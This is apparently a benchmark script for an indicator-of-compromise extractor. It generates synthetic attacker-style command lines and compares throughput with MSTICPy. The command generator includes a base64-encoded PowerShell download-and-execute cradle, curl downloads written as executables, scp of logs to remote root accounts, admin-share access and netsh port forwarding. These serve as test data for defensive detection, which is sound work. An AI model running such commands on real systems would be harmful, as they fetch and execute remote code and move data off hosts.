/**
 * `npm run bench -- ioc [-- PYTHON]`: IoC extraction and base64 over command lines; memory at 100 k and at 1 M rows; beside
 * MSTICPy on the same lines when a Python that has it is given (`bench/peers/ioc.py`).
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { complete } from "../src/base/completeness.js";
import type { Frame } from "../src/frame/frame.js";
import { FrameStore } from "../src/frame/store.js";
import { createPatternRunner } from "../src/session/pattern-runner.js";
import { IocExtractor } from "../src/transform/ioc/ioc-extract.js";
import { median, peakMiB, saveResult, timed } from "./measure.js";

/** Numbers that are the same in every run. */
function generator(seed: number): (n: number) => number {
  let state = seed >>> 0;
  return n => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
}

/** Command lines as logs have them: services, downloads, encoded PowerShell, hashes, mail, shell, defanged reports. */
export function commandLines(count: number, seed = 1): string[] {
  const next = generator(seed);
  const pick = (list: readonly string[]): string => list[next(list.length)] ?? "";
  const words = "update install report sync backup agent loader config policy service client cache index audit".split(
    " ",
  );
  const w = () => pick(words);
  const host = () =>
    `${w()}${next(99)}.${w()}-${w()}.${pick(["com", "net", "org", "io", "co.uk", "ru", "top", "xyz"])}`;
  const ip = () => `${1 + next(223)}.${next(256)}.${next(256)}.${1 + next(254)}`;
  const url = () => `https://${host()}/${w()}/${w()}${next(9999)}.ps1${next(2) === 0 ? `?id=${next(1e6)}` : ""}`;
  const exe = () => `C:\\${pick(["Windows\\System32", "Program Files\\App", "ProgramData"])}\\${w()}\\${w()}.exe`;
  const hash = () =>
    createHash(pick(["md5", "sha1", "sha256"]))
      .update(String(next(1e9)))
      .digest("hex");
  const encoded = () =>
    Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${url()}')`, "utf16le").toString("base64");
  const kinds: readonly (() => string)[] = [
    ...Array<() => string>(6).fill(() => `"${exe()}" -k ${w()} -p -s ${w()}${next(99)} /quiet`),
    ...Array<() => string>(3).fill(() => `curl.exe -s -L ${url()} -o ${exe()}`),
    ...Array<() => string>(2).fill(
      () => `cmd.exe /c ping -n ${next(9)} ${ip()} > ${exe()}.log && net use \\\\${ip()}\\c$`,
    ),
    ...Array<() => string>(2).fill(() => `certutil -hashfile ${exe()} SHA256 & echo ${hash()} & echo ${hash()}`),
    () => `sendmail -t ${w()}.${w()}@${host()} -cc ${w()}@${host()} -a /usr/bin/${w()}.sh -relay ${host()}`,
    () => `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded()}`,
    () => `wget hxxp://${host().replaceAll(".", "[.]")}/${w()} from ${ip().replaceAll(".", "[.]")}`,
    () => `bash -c 'cat /var/log/${w()}.log | grep ${w()} > /tmp/${w()}; scp /tmp/${w()} root@${ip()}:/tmp/${w()}'`,
    () =>
      `netsh interface portproxy add v4tov4 connectaddress=${ip()} connectaddress6=2001:db8:${1 + next(9998)}::${1 + next(9998)}`,
    () => `${w()}.exe ${w()} ${w()} /${w()} ${next(1e6)}`,
  ];
  return Array.from({ length: count }, () => (kinds[next(kinds.length)] as () => string)());
}

async function frameOf(store: FrameStore, rows: number): Promise<Frame> {
  function* batches() {
    for (let at = 0; at < rows; at += 50_000) yield commandLines(Math.min(50_000, rows - at), at + 1).map(t => [t]);
  }
  const provenance = { source: "bench", ranAtMs: 0, tookMs: 0, clock: "system", clockDependent: false } as const;
  return store.fromBatches([{ name: "CommandLine", type: "string" }], batches(), {
    completeness: complete,
    provenance,
  });
}

const store = await FrameStore.open({ memoryLimitBytes: 512 * 2 ** 20 });
const patterns = createPatternRunner();
const ioc = new IocExtractor({ patterns, frames: async () => store });
const figures: Record<string, number> = {};
let peerFigures: object = {};

const lines = commandLines(100_000);
const mb = lines.reduce((sum, l) => sum + l.length, 0) / 1e6;
const small = await frameOf(store, 100_000);
const timesMs: number[] = [];
/** Processor seconds say more than the clock on a machine that others use too. */
const cpuSeconds: number[] = [];
let found = 0;
for (let i = 0; i < 5; i += 1) {
  const cpu = process.cpuUsage();
  timesMs.push(
    await timed(async () => {
      const frame = await ioc.extract(small, { columns: "CommandLine" });
      found = frame.rowCount;
      await frame.close();
    }),
  );
  const { user, system } = process.cpuUsage(cpu);
  cpuSeconds.push((user + system) / 1e6);
}
const seconds = median(timesMs) / 1000;
figures["rowsPerSecond"] = Math.round(100_000 / seconds);
figures["rowsPerProcessorSecond"] = Math.round(100_000 / median(cpuSeconds));
figures["mbPerSecond"] = Number((mb / seconds).toFixed(1));
console.log(
  `100,000 lines (${mb.toFixed(1)} MB), ${found} observables: ${seconds.toFixed(2)} s, first ${((timesMs[0] ?? 0) / 1000).toFixed(2)} s`,
);
console.log(
  `  ${figures["rowsPerSecond"]} rows/s, ${figures["rowsPerProcessorSecond"]} rows per processor second, ${figures["mbPerSecond"]} MB/s, peak ${peakMiB()} MiB`,
);

const before = peakMiB();
const large = await frameOf(store, 1_000_000);
const filled = peakMiB();
const largeMs = await timed(async () => (await ioc.extract(large, { columns: "CommandLine" })).close());
console.log(
  `1,000,000 lines: ${(largeMs / 1000).toFixed(1)} s, ${Math.round(1e9 / largeMs)} rows/s; peak ${before} → ${filled} (filled) → ${peakMiB()} MiB`,
);
Object.assign(figures, {
  millionSeconds: largeMs / 1000,
  peakBefore: before,
  peakFilled: filled,
  peakAfter: peakMiB(),
});

const python = process.argv[2];
if (python !== undefined) {
  const dir = join(import.meta.dirname, "results");
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "command-lines.json");
  const part = lines.slice(0, 10_000);
  writeFileSync(file, JSON.stringify(part));
  const child = spawnSync(python, [join(import.meta.dirname, "peers/ioc.py"), file], { encoding: "utf8" });
  const line = child.stdout.split("\n").find(l => l.startsWith("BENCH "));
  if (line === undefined) {
    console.log(`the peer did not run: ${child.stderr.slice(-500)}`);
    process.exitCode = 1;
  } else {
    const peer = JSON.parse(line.slice(6)) as { rowsPerSecond: number; peakMiB: number; observables: number };
    const ratio = Number(figures["rowsPerSecond"]) / peer.rowsPerSecond;
    console.log(
      `MSTICPy: ${peer.rowsPerSecond} rows/s, peak ${peer.peakMiB} MiB, ${peer.observables} observables in 10,000 lines; ${ratio.toFixed(0)} times slower`,
    );
    peerFigures = { peer, ratio };
  }
}
saveResult("ioc", { ...figures, ...peerFigures });
await patterns.close();
await store.close();
